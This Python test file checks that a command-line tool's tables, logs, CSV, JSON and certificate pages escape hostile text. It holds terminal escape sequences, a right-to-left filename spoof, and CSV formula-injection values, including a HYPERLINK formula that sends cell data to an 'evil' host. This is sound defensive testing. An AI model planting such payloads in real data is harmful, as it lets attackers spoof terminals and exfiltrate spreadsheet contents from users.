"""What somebody else chose to be called, or wrote as a reason, does nothing to the terminal, the table or the spreadsheet."""

import csv
import io
import json
import os
import pty
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.errors import BadSettings
from flows.plant import Plant
from flows.records.spreadsheet import cell
from flows.terminal import answer, log, print_table, reporting, waiting
from registry.client.versions import register

from ..registry.conftest import PASSWORD, request_for, running
from .test_cli import changeover
from .test_trail import append

EVIL = "\x1b[2J\x1b]0;title\x07\x9b31m\u202egnp.exe\u200b\u2028next\rover [red]rich[/] =HYPERLINK(1)"
SHOWN = "\\x1b[2J\\x1b]0;title\\x07\\x9b31m\\u202egnp.exe\\u200b"
ROOT = Path(__file__).parents[2]


def harmless(text: str) -> bool:
    """Whether ``text`` has nothing in it but letters and line ends."""
    return all(line.replace("\t", "").isprintable() for line in text.split("\n"))


def test_lines_and_tables(capsys: pytest.CaptureFixture[str]) -> None:
    log(EVIL)
    answer(EVIL)
    answer()
    print_table(EVIL, ("a", "b"), [(EVIL, "x\ty\nz")])
    out, err = capsys.readouterr()
    assert harmless(out) and harmless(err)
    assert err.startswith(SHOWN) and err.count("\n") == 1
    first, second, header, row = out.splitlines()
    assert first.startswith(SHOWN) and second == "" and header == "a\tb"
    assert row.startswith(SHOWN) and row.split("\t")[1] == "x y z"


def test_progress_without_a_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    with waiting(EVIL) as news:
        news(EVIL)
    with reporting(EVIL) as report:
        report(EVIL, 0.5)
    assert harmless(capsys.readouterr().err)


def test_on_a_terminal_only_our_own_commands_are_sent() -> None:
    """On a pseudo-terminal Rich draws; of the text nothing is taken for a command, nor for Rich's own markup."""
    code = f"""
import time
from flows.terminal import print_table, log, reporting, waiting
evil = {EVIL!r}
print_table(evil, ("a",), [(evil,)])
log(evil)
with waiting(evil) as news:
    news(evil)
    time.sleep(0.3)
with reporting(evil) as report:
    report(evil, 0.5)
    time.sleep(0.3)
"""
    leader, follower = pty.openpty()
    environment = os.environ | {"PYTHONPATH": str(ROOT), "TERM": "xterm-256color", "COLUMNS": "200"}
    with subprocess.Popen([sys.executable, "-c", code], stdout=follower, stderr=follower, env=environment) as child:
        os.close(follower)
        found = b""
        while True:
            try:
                found += os.read(leader, 65536)
            except OSError:  # the other end is closed
                break
        assert child.wait(30) == 0, found.decode("utf-8", "replace")
    os.close(leader)
    text = found.decode("utf-8")
    for sent in ("\x1b[2J\x1b]0;", "\x1b]0;title", "\x07", "\x9b", "\u202e", "\u200b", "\u2028"):
        assert sent not in text, repr(sent)
    assert "\\x1b]0;title\\x07" in text and "[red]rich[/]" in text


STRICT = """
import os, sys, time
from flows.terminal import answer, print_table, log, reporting, waiting
name = os.fsdecode(b"b\\xffad \\xe2\\x89\\xa5 \\xc3\\xbc.png")
print_table(name, ("image", name), [(name, "first"), (name, "last")])
answer(name)
log(name)
with waiting(name) as news:
    news(name)
with reporting(name) as report:
    report(name, 0.5)
"""


@pytest.mark.parametrize(
    "locale",
    [
        {"PYTHONIOENCODING": "ascii:strict"},
        {"PYTHONIOENCODING": "latin-1:strict"},
        {"PYTHONIOENCODING": "utf-8:strict"},
        {"LC_ALL": "C", "PYTHONCOERCECLOCALE": "0", "PYTHONUTF8": "0"},
    ],
    ids=["ascii", "latin-1", "utf-8", "C"],
)
@pytest.mark.parametrize("terminal", [False, True])
def test_a_name_that_the_terminal_cannot_write_is_escaped(locale: dict[str, str], terminal: bool) -> None:
    """A table is never lost for the sake of one letter."""
    environment = os.environ | {"PYTHONPATH": str(ROOT), "TERM": "xterm-256color", "COLUMNS": "200"} | locale
    leader, follower = pty.openpty() if terminal else os.pipe()
    with subprocess.Popen([sys.executable, "-c", STRICT], stdout=follower, stderr=subprocess.STDOUT, env=environment) as child:
        os.close(follower)
        found = b""
        while piece := _read(leader):
            found += piece
        assert child.wait(30) == 0, found.decode("latin-1")
    os.close(leader)
    text = found.decode("latin-1")
    assert "first" in text and "last" in text and "b\\udcffad" in text


def _read(leader: int) -> bytes:
    try:
        return os.read(leader, 65536)
    except OSError:  # the other end of the pseudo-terminal is closed
        return b""


@pytest.mark.parametrize("debug", [False, True])
def test_errors(plant: Plant, monkeypatch: pytest.MonkeyPatch, debug: bool) -> None:
    def fail(*_: object) -> None:
        raise BadSettings(EVIL)

    monkeypatch.setattr("flows.serving.servers.down", fail)
    result = changeover(*(("--debug",) if debug else ()), "down")
    assert result.exit_code == 2 and harmless(result.stderr)
    assert result.stderr.splitlines()[-1].startswith(f"error: {SHOWN}")
    result = changeover("history", "--product", EVIL)
    assert result.exit_code == 2 and harmless(result.output)
    result = changeover(EVIL)
    assert result.exit_code == 2 and harmless(result.output)


def test_the_audit_trail_as_table_csv_and_json(plant: Plant) -> None:
    reason = '=HYPERLINK("http://evil/?"&A1)\r\n' + EVIL
    append(plant, 1, actor=EVIL, product=EVIL, reason=reason, before=EVIL, subject="\u202e", address="@SUM(1)\x1b[31m")
    table = changeover("audit", "list").stdout
    assert harmless(table) and SHOWN in table and len(table.splitlines()) == 2
    text = changeover("audit", "list", "--csv").stdout
    assert harmless(text)
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["reason"].startswith("'=HYPERLINK(") and row["address"] == "'@SUM(1)\\x1b[31m"
    printed = changeover("audit", "list", "--json").stdout
    assert harmless(printed) and printed.isascii()
    (event,) = json.loads(printed)["events"]
    assert (event["reason"], event["actor"]) == (reason, EVIL)  # to the letter


def test_what_verify_finds(plant: Plant, monkeypatch: pytest.MonkeyPatch) -> None:
    append(plant, 1)
    monkeypatch.setattr("registry.trail.audit.verify", lambda *_, **__: [f"event 1 was edited: {EVIL}"])
    result = changeover("audit", "verify")
    assert result.exit_code == 1 and harmless(result.stdout) and SHOWN in result.stdout


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\tx", "\rx", "\nx", " =1",
        "\u00a0=1", "'=1", "\"=1", " ' =1", "“=1", "＝1", "＋1", "－1", "＠x",
        "﹦1", "−1", "\u200b=1", "\ufeff=1",
    ],
)  # fmt: skip
def test_nothing_begins_like_a_formula(text: str) -> None:
    assert str(cell(text)).startswith("'") and str(cell(text)).isprintable()


def test_other_cells_are_as_they_were() -> None:
    for value in ("fine", "2026-11-21T06:00:00Z", "a = b", "ana@plant", "", 7, -1, True, None):
        assert cell(value) == value
    assert cell("fine; =1+1") == "fine;' =1+1"  # the next cell, where semicolons separate


@given(st.text())
def test_whatever_the_cell(text: str) -> None:
    found = str(cell(text))
    assert found.isprintable() and not found.lstrip(' "').startswith(tuple("=+-@＝＋－＠"))


def test_commands_that_print_what_the_registry_says(plant: Plant, monkeypatch: pytest.MonkeyPatch) -> None:
    """Whatever a reason, a name or an address holds: no command sends it to the terminal, and JSON keeps it."""
    from datetime import UTC, datetime

    from flows.records.lineage import Box, Lineage
    from flows.upkeep.doctor import Finding
    from registry.client.history import HistoryLine

    (plant.path / "changeover.yaml").write_text("products: {bolt: {preset: quick}}\n")
    patch: Callable[[str, Any], None] = monkeypatch.setattr
    patch("flows.serving.services.connect_as", lambda *_: None)
    patch("flows.serving.services.connect_as_person", lambda *_: None)
    patch("flows.upkeep.doctor.examine", lambda *_: [Finding("warning", EVIL, EVIL, EVIL)])
    line = HistoryLine(
        version="1", batch=EVIL, created=datetime.now(UTC), gates="passed", qa="approved", by=EVIL, at="", reason=EVIL,
        aliases=(EVIL,), digest="ab" * 32,
    )  # fmt: skip
    patch("registry.client.history.history", lambda *_: [line])
    patch("flows.records.lineage.lineage", lambda *_: Lineage("bolt", "1", (Box("k", EVIL, ((EVIL, EVIL),)),), ()))
    for verb in (("history", "--product", "bolt"), ("doctor",), ("lineage", "bolt", "1")):
        result = changeover(*verb)
        assert result.exit_code == 0, result.output
        assert harmless(result.output) and SHOWN in result.stdout, verb
        printed = changeover(*verb, "--json").stdout
        assert printed.isascii() and harmless(printed) and EVIL in _texts(json.loads(printed)), verb


def _texts(value: object) -> set[str]:
    """Every text in a JSON value, keys included."""
    if isinstance(value, dict):
        return set(value) | set().union(*map(_texts, value.values()))
    if isinstance(value, list):
        return set().union(*map(_texts, value))
    return {value} if isinstance(value, str) else set()


@pytest.mark.servers
@pytest.mark.slow
def test_a_reason_on_its_way_through_the_real_commands(plant: Plant, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Signed with a reason that would clear the screen and run in a spreadsheet, against a real registry."""
    (plant.path / "changeover.yaml").write_text("products: {bolt: {preset: quick}}\n")
    reason = "=HYPERLINK(1) \x1b[2J\x1b]0;title\x07 \u202egnp.exe"
    shown = "=HYPERLINK(1) \\x1b[2J\\x1b]0;title\\x07 \\u202egnp.exe"
    page = tmp_path / "bolt.html"
    with running(plant.state / "mlflow") as registry:
        monkeypatch.setattr("flows.serving.services.address", lambda *_: registry.url)
        monkeypatch.setenv("CHANGEOVER_PASSWORD", PASSWORD)
        register(registry.trainer, request_for(tmp_path, "bolt", "a"))
        order = ("sign-off", "--product", "bolt", "--version", 1, "--approve", "--reason", reason)
        printed = [changeover(*order, "--user", f"ana{EVIL}"), changeover(*order, "--user", "ana")]
        assert [result.exit_code for result in printed] == [2, 0], printed[1].output
        assert shown in printed[1].stdout
        printed.append(changeover("promote", "--product", "bolt"))
        for verb in (("history", "--product", "bolt"), ("audit", "list", "--csv"), ("audit", "list"), ("lineage", "bolt", "1")):
            printed.append(changeover(*verb))
            assert shown in printed[-1].stdout, verb
        as_csv = list(csv.DictReader(io.StringIO(printed[4].stdout)))
        assert all(not row["reason"].startswith("=") for row in as_csv)
        (line,) = json.loads(changeover("history", "--product", "bolt", "--json").stdout)
        assert line["reason"] == reason
        printed.append(changeover("audit", "certificate", "--product", "bolt", "--version", 1, "--out", page))
        assert shown in page.read_text() and harmless(page.read_text())
    assert all(harmless(result.output) for result in printed)
    assert all(result.exit_code == 0 for result in printed[1:]), [result.output for result in printed]
    (card,) = plant.publish.glob("bolt/1-*/card.json")
    assert card.read_text().isascii() and json.loads(card.read_text())["signed"]["reason"] == reason
